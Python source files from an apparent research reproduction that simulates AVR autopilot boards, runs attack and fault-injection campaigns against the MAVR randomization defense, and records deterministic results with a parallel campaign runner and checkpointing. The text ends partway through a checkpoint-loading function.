        re-randomization does shift the layout out from under the
        profiler's function table (documented caveat in
        docs/OBSERVABILITY.md).
        """
        from ..avr.profile import AvrProfiler
        from ..avr.trace import FlightRecorder

        spec = self.spec
        cpu = self.autopilot.cpu
        if spec.profile is not None and self.profiler is None:
            self.profiler = AvrProfiler(
                mode=spec.profile,
                symbols=self.autopilot.debug_symbols,
                telemetry=self.telemetry,
            ).attach(cpu, cpu.engine)
            if self.system is not None:
                self.system.master.profiler = self.profiler
        if spec.flight_recorder and self.recorder is None:
            self.recorder = FlightRecorder().attach(cpu)
            if self.system is not None:
                self.system.master.flight_recorder = self.recorder

    def forensic_bundle(
        self, reason: str, kind: str = "manual", fault_pc: Optional[int] = None
    ) -> Optional[dict]:
        """The forensic bundle for this board, or ``None`` (no recorder).

        Prefers the bundle the master froze at detection time (captured
        *before* recovery rebooted the core) over a fresh post-run one.
        """
        if self.recorder is None:
            return None
        if (
            self.system is not None
            and self.system.master.last_forensic_bundle is not None
        ):
            return self.system.master.last_forensic_bundle
        return self.recorder.bundle(
            reason,
            kind=kind,
            symbols=self.autopilot.debug_symbols,
            telemetry=self.telemetry,
            profiler=self.profiler,
            fault_pc=fault_pc,
        )

    def boot(self) -> float:
        """Power on; returns the startup overhead in ms (0 when bare)."""
        if self.system is not None:
            return self.system.boot()
        return 0.0

    def run(self, ticks: int, watch_every: Optional[int] = None) -> int:
        """Fly for ``ticks``; returns the master's detection count (0 bare)."""
        if self.system is not None:
            return self.system.run(
                ticks, watch_every if watch_every is not None else 10
            )
        self.autopilot.run_ticks(ticks)
        return 0

    def inject_fault(self) -> None:
        """Apply the spec's fault to the live board.

        * ``wild_jump`` — point the PC into the middle of ``.text``:
          guaranteed crash or watchdog starvation.
        * ``silence`` — no-op the watchdog-feed GPIO write hook: the
          firmware keeps flying but the master hears nothing (genuine
          starvation, not a crash).
        """
        if self.spec.fault is None:
            return
        if self.spec.fault == "wild_jump":
            running = (
                self.system.running_image if self.system is not None else self.image
            )
            self.autopilot.cpu.pc = (running.size + 64) // 2
        elif self.spec.fault == "silence":
            from ..avr.iospace import FEED_PORT, IO_TO_DATA_OFFSET

            self.autopilot.cpu.data.add_write_hook(
                FEED_PORT + IO_TO_DATA_OFFSET, lambda _address, _value: None
            )

    # -- observation ------------------------------------------------------

    def report(self):
        """The MAVR defense report, or None for an unprotected board."""
        return self.system.report() if self.system is not None else None

    def read_target(self) -> int:
        return self.autopilot.read_variable(self.spec.target_variable)


@dataclass
class ScenarioResult:
    """What happened when one spec was played out.

    Every field is a deterministic function of the spec: results carry
    no wall-clock time and no process identity, so the JSONL record of a
    scenario is byte-identical whether it ran serially, in a worker, or
    on a retry.  (The in-memory ``snapshot`` holds dual-clock spans and
    is therefore excluded from :meth:`to_record`.)
    """

    index: int
    spec: ScenarioSpec
    outcome: str                      # clean|stealthy|landed|deflected|crashed|halted|error
    effect: bool
    detected: bool
    stealthy: bool
    succeeded: bool
    status: str                       # autopilot status after the run
    crash: Optional[dict] = None
    delivered_bytes: int = 0
    link_lost: bool = False
    telemetry_frames_after: int = 0
    boots: int = 0
    randomizations: int = 0
    attacks_detected: int = 0
    startup_overhead_ms: float = 0.0
    profile_anomalies: int = 0
    events: List[dict] = field(default_factory=list)
    snapshot: Optional[dict] = None
    # per-phase time breakdown; host_ms values are wall-clock and thus
    # excluded (with profile/forensics) from the deterministic record
    phases: Dict[str, dict] = field(default_factory=dict)
    profile: Optional[dict] = None
    forensics: Optional[dict] = None
    error: Optional[str] = None
    # protocol-tier verdict (GcsAnomalyDetector + attack effect), or None
    # for memory-tier/clean scenarios; deterministic, enters the record
    detector: Optional[dict] = None
    # per-board breakdown of a swarm scenario, or None for single-board
    swarm: Optional[dict] = None

    @property
    def still_flying(self) -> bool:
        return self.status == "running"

    def to_record(self) -> dict:
        """Deterministic JSON-ready record for the campaign JSONL sink."""
        record = {
            "index": self.index,
            "label": self.spec.label,
            "spec": self.spec.to_record(),
            "outcome": self.outcome,
            "effect": self.effect,
            "detected": self.detected,
            "stealthy": self.stealthy,
            "succeeded": self.succeeded,
            "status": self.status,
            "crash": jsonable(self.crash),
            "delivered_bytes": self.delivered_bytes,
            "link_lost": self.link_lost,
            "telemetry_frames_after": self.telemetry_frames_after,
            "boots": self.boots,
            "randomizations": self.randomizations,
            "attacks_detected": self.attacks_detected,
            "profile_anomalies": self.profile_anomalies,
            "error": self.error,
        }
        # appended (never inserted) so pre-existing memory-tier records
        # stay byte-identical — the registry refactor's pinned contract
        if self.detector is not None:
            record["detector"] = self.detector
        if self.swarm is not None:
            record["swarm"] = self.swarm
        return record


def _classify(
    spec: ScenarioSpec, *, effect: bool, detected: bool, stealthy: bool,
    status: str,
) -> str:
    if spec.attack is None:
        if status == "running":
            return "clean"
        return status
    if effect:
        return "stealthy" if stealthy else "landed"
    if detected:
        return "deflected"
    return status if status != "running" else "no_effect"


def run_scenario(
    spec: ScenarioSpec,
    index: int = 0,
    telemetry: Optional[Telemetry] = None,
    cache: Optional[ArtifactCache] = None,
) -> ScenarioResult:
    """Play one spec end to end: build, boot, attack/fault, observe.

    The protocol mirrors the paper's experiment loop: boot (randomizing
    per policy when protected), fly ``warmup_ticks``, deliver the attack
    or inject the fault, then fly ``observe_ticks`` with the master
    watching every ``watch_every`` ticks, and read the outcome off the
    board.

    Every lifecycle phase is timed into a :class:`PhaseRecorder`
    (host wall time + deterministic simulated time); the breakdown rides
    ``ScenarioResult.phases`` and, when telemetry is enabled, also merges
    back to campaign parents as ``scenario.phase`` spans.

    ``cache`` (an :class:`~repro.sim.artifacts.ArtifactCache`, or a root
    path for one) turns on the campaign fast path: builds, deploy blobs
    and booted-board snapshots are shared across processes.  The cache
    only ever changes host time — the result record and every
    deterministic phase field are byte-identical with caching off, cold
    or warm (a restored board replays the cold boot's recorded
    ``sim_ms``, and the eligibility gate routes observer-carrying specs
    to the cold path).
    """
    cache = get_cache(cache)
    host = time.perf_counter
    phases = PhaseRecorder()

    start = host()
    load_spec_image(spec, cache)  # "build": toolchain build / HEX decode
    phases.record("build", host() - start)

    start = host()
    board, base = _build_board(spec, telemetry, cache)
    phases.record("preprocess", host() - start)

    overhead_ms = _boot_with_phases(spec, board, phases, cache, telemetry)

    cpu = board.autopilot.cpu
    ms_per_cycle = 1000.0 / cpu.clock_hz

    def cpu_total() -> int:
        return cpu.cycles_lifetime + cpu.cycles

    cycles = cpu_total()
    start = host()
    board.run(spec.warmup_ticks)
    phases.record(
        "warmup", host() - start, (cpu_total() - cycles) * ms_per_cycle
    )
    baseline = board.read_target()
    detections_before = _detections(board)

    play = None
    cycles = cpu_total()
    start = host()
    if spec.attack is not None:
        play = attack_kind(spec.attack).inject(spec, board, base)
        phases.record(
            "attack", host() - start, (cpu_total() - cycles) * ms_per_cycle
        )
    board.inject_fault()
    cycles = cpu_total()
    start = host()
    if play is None or not play.observe_done:
        board.run(spec.observe_ticks, spec.watch_every)
    phases.record(
        "run", host() - start, (cpu_total() - cycles) * ms_per_cycle
    )

    status = board.autopilot.status.value
    effect = board.read_target() != baseline
    detected = _detections(board) > detections_before
    attack_outcome = play.outcome if play is not None else None
    protocol_outcome = play.protocol if play is not None else None
    if attack_outcome is not None:
        effect = effect or attack_outcome.succeeded
    stealthy = (
        attack_outcome.stealthy if attack_outcome is not None
        else (effect and status == "running" and not detected)
    )
    succeeded = attack_outcome.succeeded if attack_outcome else effect
    link_lost = attack_outcome.link_lost if attack_outcome else False
    frames_after = (
        attack_outcome.telemetry_frames_after if attack_outcome else 0
    )
    detector_record = None
    if protocol_outcome is not None:
        # protocol tier: the link attack's effect and the GCS detector's
        # verdict replace the memory-tier SRAM readout
        effect = protocol_outcome.effect
        succeeded = protocol_outcome.effect
        detected = detected or protocol_outcome.detected
        link_lost = protocol_outcome.link_lost
        frames_after = protocol_outcome.telemetry_frames
        stealthy = (
            effect and status == "running"
            and not detected and not link_lost
        )
        detector_record = protocol_outcome.record()
    crash = jsonable(board.autopilot.crash) if board.autopilot.crash else None

    report = board.report()
    result = ScenarioResult(
        index=index,
        spec=spec,
        outcome=_classify(
            spec, effect=effect, detected=detected, stealthy=stealthy,
            status=status,
        ),
        effect=effect,
        detected=detected,
        stealthy=stealthy,
        succeeded=succeeded,
        status=status,
        crash=crash,
        delivered_bytes=play.delivered_bytes if play is not None else 0,
        link_lost=link_lost,
        telemetry_frames_after=frames_after,
        boots=report.boots if report else 1,
        randomizations=report.randomizations if report else 0,
        attacks_detected=report.attacks_detected if report else 0,
        startup_overhead_ms=overhead_ms,
        detector=detector_record,
    )
    result.phases = phases.snapshot()
    if board.profiler is not None:
        result.profile = board.profiler.snapshot()
        result.profile_anomalies = board.profiler.anomaly_count
    if board.recorder is not None and (
        crash is not None or detected or result.profile_anomalies
    ):
        kind = (
            "cpu_fault" if crash is not None
            else "attack_detected" if detected
            else "profile_anomaly"
        )
        reason = (
            crash["reason"] if crash is not None
            else f"outcome {result.outcome}"
        )
        result.forensics = board.forensic_bundle(
            reason, kind=kind,
            fault_pc=crash["pc_bytes"] if crash is not None else None,
        )
    phases.emit_spans(board.telemetry)
    if board.telemetry.enabled:
        result.events = board.telemetry.events.events()
        result.snapshot = board.telemetry.snapshot()
    return result


# -- scenario internals -----------------------------------------------------

def _build_board(
    spec: ScenarioSpec,
    telemetry: Optional[Telemetry],
    cache: Optional[ArtifactCache] = None,
):
    """Build the board, applying the attack kind's board transform.

    Most kinds fly the spec's image as built; a kind with a
    ``build_board`` hook (the oracle: a *randomized* image whose layout
    the attacker fully knows) constructs its own board instead.
    Returns ``(board, base_image)`` — base is what attackers statically
    analyze (the paper's threat model: the unprotected public binary).
    """
    base = load_spec_image(spec, cache)
    if spec.attack is not None:
        kind = attack_kind(spec.attack)
        if kind.build_board is not None:
            return kind.build_board(spec, telemetry, cache, base), base
    return Board(spec, telemetry, cache=cache), base


def _boot_with_phases(
    spec: ScenarioSpec,
    board: Board,
    phases: PhaseRecorder,
    cache: Optional[ArtifactCache],
    telemetry: Optional[Telemetry],
) -> float:
    """Program + boot one built board, recording the program/boot phases.

    A warm-restored board replays the cold boot's recorded deterministic
    ``sim_ms`` so the ``campaign.phases`` contract holds bit for bit; a
    cold boot records the real split and publishes the booted-board
    snapshot when the spec is eligible.  Shared by the single-board and
    swarm runners — the operation order here is part of the byte-identity
    contract.  Returns the startup overhead in ms.
    """
    host = time.perf_counter
    isp = board.system.master.isp if board.system is not None else None
    if board.restored is not None:
        overhead_ms = board.restored["overhead_ms"]
        phases.record("program", 0.0, board.restored["program_sim_ms"])
        phases.record("boot", 0.0, board.restored["boot_sim_ms"])
    else:
        program_host = isp.host_program_s if isp is not None else 0.0
        program_sim = isp.stats.total_programming_ms if isp is not None else 0.0
        start = host()
        overhead_ms = board.boot()
        boot_host = host() - start
        if isp is not None:
            program_host = isp.host_program_s - program_host
            program_sim = isp.stats.total_programming_ms - program_sim
        else:
            program_host = program_sim = 0.0
        phases.record("program", program_host, program_sim)
        boot_sim_ms = max(overhead_ms - program_sim, 0.0)
        phases.record("boot", max(boot_host - program_host, 0.0), boot_sim_ms)
        if (
            cache is not None
            and board.system is not None
            and _snapshot_eligible(spec, telemetry)
            and board.system.master.current_image is not None
        ):
            snapshot = board.system.capture_snapshot()
            snapshot["overhead_ms"] = overhead_ms
            snapshot["program_sim_ms"] = program_sim
            snapshot["boot_sim_ms"] = boot_sim_ms
            cache.put_object(_board_key(spec), snapshot)
    board.attach_observers()
    return overhead_ms


def _detections(board: Board) -> int:
    report = board.report()
    return report.attacks_detected if report else 0
