"""Scenario layer: the single way to stand up and drive simulated boards.

The paper's evaluation (§VII) is campaign-shaped — many attack attempts
against many randomized boards.  This package turns one such experiment
into data (:class:`ScenarioSpec`), runs it (:func:`run_scenario` /
:class:`Board`), and fans lists of them out over a process pool
(:class:`CampaignRunner`) with deterministic per-spec seed derivation,
per-task timeouts, retry-once-on-worker-death, an ordered JSONL result
sink, and cross-process telemetry snapshot merging.

Everything above this layer — ``repro.analysis`` campaigns, the CLI's
``attack``/``defend``/``campaign``/``telemetry`` commands, the
integration-test fixtures and the throughput benchmarks — constructs
boards only through here.  See ``docs/SCENARIOS.md`` for the spec
schema, the runner semantics and the determinism contract.
"""

from .artifacts import ArtifactCache, artifact_key, get_cache
from .campaign import (
    DEFAULT_SHARDS,
    CampaignReport,
    CampaignRunner,
    aggregate_phases,
    aggregate_results,
    deterministic_phases,
    spec_digest,
)
from .pool import PoolTaskError, map_indexed
from .scenario import (
    ATTACK_VARIANTS,
    PHASE_ORDER,
    Board,
    PhaseRecorder,
    ScenarioResult,
    ScenarioSpec,
    derive_seed,
    load_spec_image,
    run_scenario,
)
from .swarm import SwarmSpec, run_swarm_scenario

__all__ = [
    "ATTACK_VARIANTS",
    "SwarmSpec",
    "run_swarm_scenario",
    "ArtifactCache",
    "Board",
    "CampaignReport",
    "CampaignRunner",
    "DEFAULT_SHARDS",
    "PHASE_ORDER",
    "PhaseRecorder",
    "PoolTaskError",
    "ScenarioResult",
    "ScenarioSpec",
    "aggregate_phases",
    "aggregate_results",
    "artifact_key",
    "derive_seed",
    "deterministic_phases",
    "get_cache",
    "load_spec_image",
    "map_indexed",
    "run_scenario",
    "spec_digest",
]
