"""Campaign runner: fan a list of scenario specs out over a process pool.

The runner owns everything around :func:`~repro.sim.scenario.run_scenario`
that the hand-wired drivers used to re-implement:

* **deterministic fan-out** — specs are numbered; a worker computes the
  result of spec *i* from spec *i* alone, so the ordered result list is
  bit-identical at any ``jobs`` level (see ``docs/SCENARIOS.md`` for the
  full determinism contract),
* **per-task timeout** — enforced inside the worker (`SIGALRM`), the only
  place a CPU-bound simulation can be interrupted,
* **retry-once-on-worker-death** — a killed worker breaks the pool; its
  unfinished specs run once more in a fresh pool, and a second death
  degrades to an ``error`` result instead of losing the campaign,
* **ordered JSONL sink** — one record per spec, in spec order, each a
  deterministic function of its spec,
* **cross-process telemetry merging** — workers return snapshots, the
  parent folds them with :meth:`repro.telemetry.Telemetry.merge`.
"""

from __future__ import annotations

import json
import os
import time
from dataclasses import dataclass, field
from typing import List, Optional, Sequence

from ..telemetry import Telemetry, jsonable
from .pool import PoolTaskError, _TaskTimeout, call_with_timeout, in_worker, map_indexed
from .scenario import PHASE_ORDER, ScenarioResult, ScenarioSpec, run_scenario


def aggregate_results(results: Sequence[ScenarioResult]) -> dict:
    """Deterministic campaign aggregates (no timing, no process identity)."""
    attacks = sum(1 for r in results if r.spec.attack is not None)
    effects = sum(1 for r in results if r.effect)
    detections = sum(1 for r in results if r.detected)
    errors = sum(1 for r in results if r.outcome in ("error", "timeout"))
    by_outcome: dict = {}
    for result in results:
        by_outcome[result.outcome] = by_outcome.get(result.outcome, 0) + 1
    return {
        "scenarios": len(results),
        "attacks": attacks,
        "effects": effects,
        "detections": detections,
        "stealthy": sum(1 for r in results if r.stealthy),
        "crashed": sum(1 for r in results if r.status == "crashed"),
        "still_flying": sum(1 for r in results if r.still_flying),
        "boots": sum(r.boots for r in results),
        "randomizations": sum(r.randomizations for r in results),
        "attacks_detected": sum(r.attacks_detected for r in results),
        "errors": errors,
        "effect_rate": effects / attacks if attacks else 0.0,
        "detection_rate": detections / attacks if attacks else 0.0,
        "by_outcome": dict(sorted(by_outcome.items())),
    }


def aggregate_phases(results: Sequence[ScenarioResult]) -> dict:
    """Per-phase totals across a campaign, in lifecycle order.

    ``sim_ms`` sums are deterministic (cycle counts and the ISP timing
    model); ``host_ms`` sums are wall time and vary run to run.  Results
    arrive in spec order at every ``jobs`` level, so the float additions
    happen in the same order and the deterministic fields are
    bit-identical between serial and parallel runs.
    """
    totals: dict = {}
    for result in results:
        for name, cell in result.phases.items():
            agg = totals.setdefault(
                name, {"scenarios": 0, "host_ms": 0.0, "sim_ms": 0.0}
            )
            agg["scenarios"] += 1
            agg["host_ms"] += cell.get("host_ms", 0.0)
            agg["sim_ms"] += cell.get("sim_ms", 0.0)
    return {
        name: {
            "scenarios": totals[name]["scenarios"],
            "host_ms": round(totals[name]["host_ms"], 3),
            "sim_ms": round(totals[name]["sim_ms"], 6),
        }
        for name in PHASE_ORDER
        if name in totals
    }


def deterministic_phases(phases: dict) -> dict:
    """The phase breakdown minus its wall-clock fields.

    What the JSONL sink (and any byte-identity comparison between
    runners) may carry: scenario counts and simulated milliseconds only.
    """
    return {
        name: {"scenarios": cell["scenarios"], "sim_ms": cell["sim_ms"]}
        for name, cell in phases.items()
    }


@dataclass
class CampaignReport:
    """Everything one campaign produced, results in spec order."""

    results: List[ScenarioResult]
    aggregates: dict
    merged_snapshot: Optional[dict] = None
    # per-phase breakdown from aggregate_phases(); sim_ms fields are
    # deterministic, host_ms fields are wall time
    phases: dict = field(default_factory=dict)
    # non-deterministic diagnostics (wall time, retry counts); kept out of
    # the JSONL records so those stay bit-identical across runs
    runner: dict = field(default_factory=dict)

    def records(self) -> List[dict]:
        return [result.to_record() for result in self.results]


def _campaign_worker(payload) -> ScenarioResult:
    """Run one (index, spec, timeout) task; module-level for pickling."""
    index, spec, timeout_s = payload
    _maybe_die_for_test(spec)
    try:
        return call_with_timeout(
            lambda p: run_scenario(p[1], index=p[0]), (index, spec), timeout_s
        )
    except _TaskTimeout:
        return _placeholder(index, spec, "timeout", f"exceeded {timeout_s}s")


def _maybe_die_for_test(spec: ScenarioSpec) -> None:
    """Worker-crash injection for the retry tests.

    Only ever fires inside a pool worker: the first worker to see the
    spec creates the marker file and dies without cleanup (the closest
    simulation of an OOM-kill), the retry finds the marker and proceeds.
    """
    if spec.worker_fault_marker is None or not in_worker():
        return
    if not os.path.exists(spec.worker_fault_marker):
        with open(spec.worker_fault_marker, "w", encoding="ascii") as handle:
            handle.write("died-once\n")
        os._exit(42)


def _placeholder(
    index: int, spec: ScenarioSpec, outcome: str, message: str,
    retried: bool = False,
) -> ScenarioResult:
    return ScenarioResult(
        index=index,
        spec=spec,
        outcome=outcome,
        effect=False,
        detected=False,
        stealthy=False,
        succeeded=False,
        status="unknown",
        error=message + (" (after one retry)" if retried else ""),
    )


class CampaignRunner:
    """Runs spec lists; serial (``jobs=1``) and parallel paths share all
    scenario code, differing only in where :func:`run_scenario` executes."""

    def __init__(
        self,
        jobs: int = 1,
        timeout_s: Optional[float] = None,
        jsonl_path=None,
        retry_worker_death: bool = True,
        progress=None,
    ) -> None:
        self.jobs = jobs
        self.timeout_s = timeout_s
        self.jsonl_path = jsonl_path
        self.retry_worker_death = retry_worker_death
        # progress(done, total, index, outcome) — called in the parent as
        # each scenario's final result lands (live campaign progress)
        self.progress = progress

    def run(self, specs: Sequence[ScenarioSpec]) -> CampaignReport:
        specs = list(specs)
        started = time.perf_counter()
        on_result = None
        if self.progress is not None:
            total = len(specs)
            done = [0]
            progress = self.progress

            def on_result(index: int, item) -> None:
                done[0] += 1
                outcome = (
                    item.outcome
                    if isinstance(item, ScenarioResult) else item.kind
                )
                progress(done[0], total, index, outcome)

        raw = map_indexed(
            _campaign_worker,
            [(index, spec, self.timeout_s) for index, spec in enumerate(specs)],
            jobs=self.jobs,
            retry_worker_death=self.retry_worker_death,
            on_result=on_result,
        )
        results: List[ScenarioResult] = []
        worker_deaths = 0
        for index, item in enumerate(raw):
            if isinstance(item, PoolTaskError):
                if item.kind == "worker_death":
                    worker_deaths += 1
                results.append(
                    _placeholder(
                        index, specs[index], "error", item.message,
                        retried=item.retried,
                    )
                )
            else:
                results.append(item)

        snapshots = [r.snapshot for r in results if r.snapshot is not None]
        report = CampaignReport(
            results=results,
            aggregates=aggregate_results(results),
            merged_snapshot=Telemetry.merge(snapshots) if snapshots else None,
            phases=aggregate_phases(results),
            runner={
                "jobs": self.jobs,
                "wall_s": time.perf_counter() - started,
                "worker_deaths": worker_deaths,
                "timeout_s": self.timeout_s,
            },
        )
        if self.jsonl_path is not None:
            self.write_jsonl(report)
        return report

    def write_jsonl(self, report: CampaignReport) -> None:
        """One record per spec, in spec order, plus a trailing aggregate.

        Records are deterministic functions of their specs; the trailing
        ``campaign.aggregates`` and ``campaign.phases`` lines carry only
        deterministic sums (the phase line strips its wall-clock fields),
        so the whole file is bit-identical between serial and parallel
        runs of the same spec list.
        """
        with open(self.jsonl_path, "w", encoding="utf-8") as handle:
            for record in report.records():
                handle.write(
                    json.dumps(jsonable(record), separators=(",", ":")) + "\n"
                )
            handle.write(
                json.dumps(
                    {"campaign.aggregates": jsonable(report.aggregates)},
                    separators=(",", ":"),
                )
                + "\n"
            )
            handle.write(
                json.dumps(
                    {
                        "campaign.phases": jsonable(
                            deterministic_phases(report.phases)
                        )
                    },
                    separators=(",", ":"),
                )
                + "\n"
            )
