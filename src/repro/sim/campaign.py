"""Campaign runner: fan a list of scenario specs out over a process pool.

The runner owns everything around :func:`~repro.sim.scenario.run_scenario`
that the hand-wired drivers used to re-implement:

* **deterministic fan-out** — specs are numbered; a worker computes the
  result of spec *i* from spec *i* alone, so the ordered result list is
  bit-identical at any ``jobs`` level (see ``docs/SCENARIOS.md`` for the
  full determinism contract),
* **per-task timeout** — enforced inside the worker (`SIGALRM`), the only
  place a CPU-bound simulation can be interrupted,
* **retry-once-on-worker-death** — a killed worker breaks the pool; its
  unfinished specs run once more in a fresh pool, and a second death
  degrades to an ``error`` result instead of losing the campaign,
* **ordered JSONL sink** — one record per spec, in spec order, each a
  deterministic function of its spec,
* **cross-process telemetry merging** — workers return snapshots, the
  parent folds them with :meth:`repro.telemetry.Telemetry.merge`.
"""

from __future__ import annotations

import hashlib
import json
import os
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, List, Optional, Sequence

from ..telemetry import Telemetry, jsonable
from .artifacts import get_cache
from .pool import PoolTaskError, _TaskTimeout, call_with_timeout, in_worker, map_indexed
from .scenario import PHASE_ORDER, ScenarioResult, ScenarioSpec, run_scenario
from .swarm import SwarmSpec, run_swarm_scenario

#: default number of checkpoint shard files a checkpointed campaign keeps
DEFAULT_SHARDS = 4


def spec_digest(spec: ScenarioSpec) -> str:
    """Content digest of a spec, pinning checkpoint lines to their spec.

    Resume only replays a checkpointed result when the stored digest
    matches the spec at the same index in the *current* spec list, so a
    checkpoint directory can never leak results across campaigns (or
    across edits to the same campaign's parameters).
    """
    canonical = json.dumps(
        jsonable(spec.to_record()), sort_keys=True, separators=(",", ":")
    )
    return hashlib.blake2b(canonical.encode("utf-8"), digest_size=16).hexdigest()


def aggregate_results(results: Sequence[ScenarioResult]) -> dict:
    """Deterministic campaign aggregates (no timing, no process identity)."""
    attacks = sum(1 for r in results if r.spec.attack is not None)
    effects = sum(1 for r in results if r.effect)
    detections = sum(1 for r in results if r.detected)
    errors = sum(1 for r in results if r.outcome in ("error", "timeout"))
    by_outcome: dict = {}
    for result in results:
        by_outcome[result.outcome] = by_outcome.get(result.outcome, 0) + 1
    return {
        "scenarios": len(results),
        "attacks": attacks,
        "effects": effects,
        "detections": detections,
        "stealthy": sum(1 for r in results if r.stealthy),
        "crashed": sum(1 for r in results if r.status == "crashed"),
        "still_flying": sum(1 for r in results if r.still_flying),
        "boots": sum(r.boots for r in results),
        "randomizations": sum(r.randomizations for r in results),
        "attacks_detected": sum(r.attacks_detected for r in results),
        "errors": errors,
        "effect_rate": effects / attacks if attacks else 0.0,
        "detection_rate": detections / attacks if attacks else 0.0,
        "by_outcome": dict(sorted(by_outcome.items())),
    }


def aggregate_phases(results: Sequence[ScenarioResult]) -> dict:
    """Per-phase totals across a campaign, in lifecycle order.

    ``sim_ms`` sums are deterministic (cycle counts and the ISP timing
    model); ``host_ms`` sums are wall time and vary run to run.  Results
    arrive in spec order at every ``jobs`` level, so the float additions
    happen in the same order and the deterministic fields are
    bit-identical between serial and parallel runs.
    """
    totals: dict = {}
    for result in results:
        for name, cell in result.phases.items():
            agg = totals.setdefault(
                name, {"scenarios": 0, "host_ms": 0.0, "sim_ms": 0.0}
            )
            agg["scenarios"] += 1
            agg["host_ms"] += cell.get("host_ms", 0.0)
            agg["sim_ms"] += cell.get("sim_ms", 0.0)
    return {
        name: {
            "scenarios": totals[name]["scenarios"],
            "host_ms": round(totals[name]["host_ms"], 3),
            "sim_ms": round(totals[name]["sim_ms"], 6),
        }
        for name in PHASE_ORDER
        if name in totals
    }


def deterministic_phases(phases: dict) -> dict:
    """The phase breakdown minus its wall-clock fields.

    What the JSONL sink (and any byte-identity comparison between
    runners) may carry: scenario counts and simulated milliseconds only.
    """
    return {
        name: {"scenarios": cell["scenarios"], "sim_ms": cell["sim_ms"]}
        for name, cell in phases.items()
    }


@dataclass
class CampaignReport:
    """Everything one campaign produced, results in spec order."""

    results: List[ScenarioResult]
    aggregates: dict
    merged_snapshot: Optional[dict] = None
    # per-phase breakdown from aggregate_phases(); sim_ms fields are
    # deterministic, host_ms fields are wall time
    phases: dict = field(default_factory=dict)
    # non-deterministic diagnostics (wall time, retry counts); kept out of
    # the JSONL records so those stay bit-identical across runs
    runner: dict = field(default_factory=dict)

    def records(self) -> List[dict]:
        return [result.to_record() for result in self.results]


def _campaign_worker(payload) -> ScenarioResult:
    """Run one (index, spec, timeout, cache root) task; module-level for
    pickling.  The cache root travels as a string so every worker resolves
    the same per-process :class:`~repro.sim.artifacts.ArtifactCache`."""
    index, spec, timeout_s, cache_root = payload
    _maybe_die_for_test(spec)
    cache = get_cache(cache_root)
    play = run_swarm_scenario if isinstance(spec, SwarmSpec) else run_scenario
    try:
        return call_with_timeout(
            lambda p: play(p[1], index=p[0], cache=cache),
            (index, spec), timeout_s,
        )
    except _TaskTimeout:
        return _placeholder(index, spec, "timeout", f"exceeded {timeout_s}s")


def _maybe_die_for_test(spec: ScenarioSpec) -> None:
    """Worker-crash injection for the retry tests.

    Only ever fires inside a pool worker: the first worker to see the
    spec creates the marker file and dies without cleanup (the closest
    simulation of an OOM-kill), the retry finds the marker and proceeds.
    """
    if spec.worker_fault_marker is None or not in_worker():
        return
    if not os.path.exists(spec.worker_fault_marker):
        with open(spec.worker_fault_marker, "w", encoding="ascii") as handle:
            handle.write("died-once\n")
        os._exit(42)


def _placeholder(
    index: int, spec: ScenarioSpec, outcome: str, message: str,
    retried: bool = False,
) -> ScenarioResult:
    return ScenarioResult(
        index=index,
        spec=spec,
        outcome=outcome,
        effect=False,
        detected=False,
        stealthy=False,
        succeeded=False,
        status="unknown",
        error=message + (" (after one retry)" if retried else ""),
    )


def _result_from_checkpoint(
    index: int, spec: ScenarioSpec, entry: dict
) -> ScenarioResult:
    """Rehydrate a checkpointed result for the merge.

    The checkpoint stores the result's deterministic record verbatim
    (JSON round-trips preserve key order and float exactness), so the
    rebuilt result re-serializes byte-identically and feeds the same
    values into :func:`aggregate_results`.  Phase cells keep only their
    deterministic ``sim_ms``; host time belongs to the run that paid it.
    """
    record = entry["record"]
    return ScenarioResult(
        index=index,
        spec=spec,
        outcome=record["outcome"],
        effect=record["effect"],
        detected=record["detected"],
        stealthy=record["stealthy"],
        succeeded=record["succeeded"],
        status=record["status"],
        crash=record.get("crash"),
        delivered_bytes=record.get("delivered_bytes", 0),
        link_lost=record.get("link_lost", False),
        telemetry_frames_after=record.get("telemetry_frames_after", 0),
        boots=record.get("boots", 0),
        randomizations=record.get("randomizations", 0),
        attacks_detected=record.get("attacks_detected", 0),
        profile_anomalies=record.get("profile_anomalies", 0),
        error=record.get("error"),
        detector=record.get("detector"),
        swarm=record.get("swarm"),
        phases={
            name: {"sim_ms": cell["sim_ms"]}
            for name, cell in entry.get("phases", {}).items()
        },
    )


class CampaignRunner:
    """Runs spec lists; serial (``jobs=1``) and parallel paths share all
    scenario code, differing only in where :func:`run_scenario` executes."""

    def __init__(
        self,
        jobs: int = 1,
        timeout_s: Optional[float] = None,
        jsonl_path=None,
        retry_worker_death: bool = True,
        progress=None,
        cache_dir=None,
        checkpoint_dir=None,
        shards: int = DEFAULT_SHARDS,
        resume: bool = False,
        result_sink=None,
    ) -> None:
        self.jobs = jobs
        self.timeout_s = timeout_s
        self.jsonl_path = jsonl_path
        self.retry_worker_death = retry_worker_death
        # progress(done, total, index, outcome) — called in the parent as
        # each scenario's final result lands (live campaign progress)
        self.progress = progress
        # artifact-cache root shared by all workers (None disables caching)
        self.cache_dir = None if cache_dir is None else str(Path(cache_dir))
        # checkpoint shard directory; resume=True replays completed specs
        # from it instead of re-running them
        self.checkpoint_dir = (
            None if checkpoint_dir is None else Path(checkpoint_dir)
        )
        if shards < 1:
            raise ValueError("shards must be >= 1")
        self.shards = shards
        self.resume = resume
        if resume and self.checkpoint_dir is None:
            raise ValueError("resume requires a checkpoint_dir")
        # result_sink(index, result) — called in the parent as each final
        # ScenarioResult lands (the serve front end streams these)
        self.result_sink = result_sink

    # -- checkpoint shards -------------------------------------------------

    def _shard_path(self, index: int) -> Path:
        return self.checkpoint_dir / f"shard-{index % self.shards}.jsonl"

    def _shard_paths(self) -> List[Path]:
        return [
            self.checkpoint_dir / f"shard-{shard}.jsonl"
            for shard in range(self.shards)
        ]

    def _write_checkpoint(
        self, index: int, spec: ScenarioSpec, result: ScenarioResult
    ) -> None:
        """Append one completed spec to its shard (open-append-close, so an
        interrupt loses at most the line being written)."""
        entry = {
            "index": index,
            "spec": spec_digest(spec),
            "record": jsonable(result.to_record()),
            "phases": {
                name: {"sim_ms": cell["sim_ms"]}
                for name, cell in result.phases.items()
            },
        }
        with open(self._shard_path(index), "a", encoding="utf-8") as handle:
            handle.write(json.dumps(entry, separators=(",", ":")) + "\n")
            handle.flush()

    def _load_checkpoints(
        self, specs: Sequence[ScenarioSpec]
    ) -> Dict[int, ScenarioResult]:
        """Replay completed specs from the shard files.

        Lines that fail to parse (the torn tail of an interrupted append),
        carry an out-of-range index, or whose spec digest does not match
        the current spec list are skipped — those specs simply re-run.
        """
        completed: Dict[int, ScenarioResult] = {}
